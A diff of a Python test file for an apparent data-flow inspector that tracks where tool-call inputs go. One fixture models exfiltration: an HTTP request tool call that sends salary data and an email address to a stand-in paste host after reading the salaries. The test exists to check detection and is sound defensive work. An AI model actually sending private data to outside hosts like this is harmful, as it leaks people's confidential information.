@@ -4,15 +4,18 @@ from __future__ import annotations
 
 import base64
 import json
+from collections.abc import Iterator
 from typing import Any
 from urllib.parse import quote
 
 import pytest
+from msgspec.structs import force_setattr
 
-from host.inspect import tables
+from host.inspect import inspector, tables
 from host.inspect.described import subject_of
-from host.inspect.flows import endorsement_key, find_flows, severity_of, traces_of
-from host.inspect.subject import Subject
+from host.inspect.flows import endorsement_key, find_flows, severity_of, short_inputs, traces_of
+from host.inspect.subject import Subject, Text, keep
+from host.inspect.tools import class_of_call
 from host.inspection_worker import traces_from_json, traces_to_json
 from host.model import Finding, JsonObject, JsonValue, Severity
 from host.values import replace
@@ -1064,14 +1067,45 @@ def test_a_page_that_a_server_with_another_name_fetches_is_a_strangers() -> None
 
 def test_traces_cross_to_another_process_unchanged() -> None:
     arguments: JsonObject = {"url": "https://paste.example/j/a?who=ana@garden.example&b=" + "c1" * 30, "body": SALARIES}
-    traces = traces_of(call("web", "http_request", arguments, READ_SALARIES))
+    subject = call("web", "http_request", arguments, READ_SALARIES)
+    traces = replace(traces_of(subject), inputs=tuple(short_inputs(subject, class_of_call(subject))))
     assert any(it.address for it in traces.outgoing)
     assert any(it.named for it in traces.outgoing)
     arrived = traces_from_json(json.loads(json.dumps(traces_to_json(traces))))
     assert (arrived.outgoing, arrived.values, arrived.named) == (traces.outgoing, traces.values, traces.named)
+    assert arrived.inputs == traces.inputs
     assert [(it.key, it.can_receive) for it in arrived.destinations] == [
         (it.key, it.can_receive) for it in traces.destinations
     ]
+
+
+class _Guarded(tuple[Text, ...]):
+    """Texts of a call that must not be looked at once ``is_closed``."""
+
+    is_closed = False
+
+    def __iter__(self) -> Iterator[Text]:
+        assert not self.is_closed, "a text was looked at"
+        return super().__iter__()
+
+    def __len__(self) -> int:
+        assert not self.is_closed, "the texts were counted"
+        return super().__len__()
+
+
+@pytest.mark.parametrize("to", ["Fred", "billing@paste.example", "nobody"])
+def test_s43_memory_is_asked_of_a_long_call_without_a_look_at_its_texts(to: str) -> None:
+    """Row 43: another process has found what is in them, so that no text keeps this one from other apps' calls."""
+    ordered = earlier("web", "fetch", f"{ORDER} {PAGE}", url="https://garden.example")
+    subject = call("chat", "send_invitation", {"to": to, "title": "Rota", "text": "hello " * 4_000}, ordered)
+    there = replace(traces_of(subject), inputs=tuple(short_inputs(subject, class_of_call(subject))))
+    texts, values = _Guarded(subject.texts), _Guarded(subject.values())
+    here = replace(subject, texts=texts)
+    force_setattr(here, "_values", values)
+    keep(here, class_of_call, class_of_call(subject))
+    texts.is_closed = values.is_closed = True
+    assert inspector.inspect_flows(here, there) == inspector.inspect_flows(subject, None)
+    assert inspector.run(inspector.BY_MEMORY, here) == inspector.run(inspector.BY_MEMORY, subject)
 
 
 def test_an_approved_address_hides_no_other_in_the_same_input() -> None:
